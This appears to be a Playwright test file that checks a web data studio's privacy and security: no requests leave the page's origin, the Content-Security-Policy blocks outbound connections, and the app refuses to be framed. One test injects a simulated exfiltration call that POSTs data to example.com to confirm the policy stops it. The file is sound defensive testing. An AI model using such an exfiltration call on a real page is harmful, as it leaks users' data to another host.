import { expect, test } from '@playwright/test';
import { loaded, openFile, openStudio } from './helpers.ts';

test('loading and profiling a file sends no request beyond the page\'s own origin', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const foreign: string[] = [];
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url);
  });
  await openStudio(page);
  await openFile(page, 'secret.csv', 'name,salary\nalice,100\nbob,200\n', 'text/csv');
  expect(await loaded(page, 'secret.csv')).toBe(2);
  await page.getByTestId('nav-profile').click();
  await expect(page.locator('[data-testid="profile-card"][data-column="salary"]')).toBeVisible();
  expect(foreign).toEqual([]);
});

test('the Content-Security-Policy blocks a script in the page from reaching another origin, and says so', async ({ page }) => {
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toContain("connect-src 'self'");
  await expect(page.getByTestId('dataset-summary')).toBeVisible({ timeout: 60_000 });
  const outcome = await page.evaluate(async () => {
    const violations: { blockedURI: string; directive: string; disposition: string }[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push({ blockedURI: e.blockedURI, directive: e.effectiveDirective, disposition: e.disposition }));
    let fetched: string;
    try {
      await fetch('http://example.com/collect', { method: 'POST', body: 'data' });
      fetched = 'sent';
    } catch {
      fetched = 'failed';
    }
    // The violation event is queued as a task; give it one turn after the rejection.
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { fetched, violations };
  });
  // A failed fetch alone proves nothing (there may be no network at all); the policy's own report does.
  expect(outcome.fetched).toBe('failed');
  // One report per enforcing policy: the header's and index.html's <meta> copy.
  expect(outcome.violations.length).toBeGreaterThanOrEqual(1);
  for (const v of outcome.violations) expect(v).toEqual({ blockedURI: 'http://example.com/collect', directive: 'connect-src', disposition: 'enforce' });
});

test('no other site may frame the studio (frame-ancestors \'none\', sent as a header)', async ({ page, baseURL }) => {
  const response = await page.request.get('/');
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  await page.setContent(`<iframe src="${baseURL}/" width="400" height="300"></iframe>`);
  const frame = page.frames()[1];
  await expect.poll(() => frame.url(), { timeout: 30_000 }).not.toBe('about:blank');
  // Chromium replaces a refused frame with its error page: the studio never runs inside it.
  await page.waitForTimeout(500);
  expect(await frame.evaluate(() => document.getElementById('app') !== null).catch(() => false)).toBe(false);
});
